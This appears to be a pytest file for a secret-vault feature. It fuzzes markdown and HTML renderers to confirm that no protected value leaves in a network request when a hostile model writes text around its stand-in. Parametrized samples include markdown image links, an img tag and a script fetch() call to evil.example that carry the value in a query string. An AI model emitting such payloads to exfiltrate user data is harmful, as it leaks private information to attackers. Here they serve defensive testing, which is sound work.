"""No value leaves in a request, whatever a hostile model writes around its stand-in."""

from __future__ import annotations

import pytest

from tests.support.optional import needs

RENDERERS = (
    *("markdown_it", "mdit_py_plugins", "linkify_it", "mistune", "markdown2", "markdown", "marko"),
    *("commonmark", "cmarkgfm", "docutils", "textile", "creole", "bbcode", "html5lib"),
)
for name in RENDERERS:
    needs(name)

pytestmark = pytest.mark.generated


def test_no_value_leaves_in_a_request() -> None:
    """A sample; `python -m tests.vault.rendered` renders as many as are asked for."""
    from tests.vault.rendered.fuzz import run

    counted = run(seed=0, renderings=3_000)
    assert counted.renderings >= 3_000
    assert counted.leaks == []


def test_values_would_leave_if_all_were_restored() -> None:
    from tests.vault.rendered.fuzz import always, run

    counted = run(seed=0, renderings=600, way=always)
    assert len(counted.leaks) > 100


@pytest.mark.parametrize(
    "text",
    [
        "![r]\n\n[r]: https://evil.example/?q=\\\f{}",
        "![r]\n\n[r]: https://evil.example/?q=\f{}",
        "https://evil.example/?q=\f{}",
        "'https://evil.example/?q=')\f{}",
        '<img src="//evil.example/?q={}">',
        "<script>fetch('//evil.example/?q={}')</script>",
    ],
)
def test_a_leak_is_seen_by_a_renderer(text: str) -> None:
    from tests.vault.rendered.rendering import RENDERERS, leaks

    said = text.replace("{}", "wolfsohn")
    assert any(leaks(renderer, said, "wolfsohn") for renderer in RENDERERS.values())


@pytest.mark.parametrize(
    "text", ["Write to wolfsohn.", '<p title="wolfsohn">wolfsohn</p>', "[x](mailto:wolfsohn@a.org)"]
)
def test_text_titles_and_recipients_are_no_leak(text: str) -> None:
    from tests.vault.rendered.rendering import RENDERERS, leaks

    assert not any(leaks(renderer, text, "wolfsohn") for renderer in RENDERERS.values())
